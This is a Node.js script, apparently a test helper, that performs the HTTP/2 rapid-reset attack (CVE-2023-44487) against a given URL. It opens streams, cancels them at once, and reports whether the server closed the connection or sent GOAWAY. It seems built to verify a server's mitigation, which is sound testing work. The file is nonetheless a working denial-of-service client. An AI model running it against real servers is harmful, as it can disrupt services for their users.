// A rapid-reset client (CVE-2023-44487) in a process of its own: opens streams on one HTTP/2
// connection and resets each as soon as its HEADERS are sent, until the server closes the
// connection or `max` streams were opened. Prints one JSON line: { opened, closed, goaway, error }.
// Usage: node rapid-reset-client.mjs URL CA_FILE [max]
import { readFileSync } from 'node:fs';
import { connect, constants } from 'node:http2';
import process from 'node:process';
import { connect as tlsConnect } from 'node:tls';
import { setTimeout as delay } from 'node:timers/promises';

const [url, caFile, max = '5000'] = process.argv.slice(2);
const target = new globalThis.URL(url);
const ca = readFileSync(caFile);
// The TLS socket is ours, so the server's close is seen on it: the HTTP/2 session, busy writing,
// does not always notice it in time.
let socket;
const session = connect(url, {
  createConnection: () =>
    (socket = tlsConnect({ host: target.hostname, port: Number(target.port), ca, ALPNProtocols: ['h2'] })),
});
const result = { opened: 0, closed: false, goaway: null, error: null };
let serverClosed = false;
const closed = new Promise((resolve) =>
  socket.once('close', () => {
    serverClosed = true;
    resolve();
  }),
);
session.on('goaway', (code) => (result.goaway = code));
session.on('error', (err) => (result.error = err.message));
await new Promise((resolve) => session.once('remoteSettings', resolve));
// Each batch waits for a PING's answer, which the server sends only once it has read the batch:
// `opened` then counts streams the server saw, however fast this process writes.
const serverHasRead = () =>
  new Promise((resolve) => {
    if (!session.ping(() => resolve())) resolve();
  });
while (!serverClosed && result.goaway === null && result.opened < Number(max)) {
  try {
    for (let i = 0; i < 20; i++, result.opened++) {
      const stream = session.request({ ':path': '/hang' });
      stream.on('error', () => {});
      stream.close(constants.NGHTTP2_CANCEL);
    }
  } catch {
    break; // the session is going away: the server has cut us off
  }
  await Promise.race([serverHasRead(), closed]);
}
// The server's close, at most 5 s later (a session it never closed must not hang this process).
await Promise.race([closed, delay(5000)]);
result.closed = serverClosed || result.goaway !== null;
session.destroy();
process.stdout.write(`${JSON.stringify(result)}\n`);
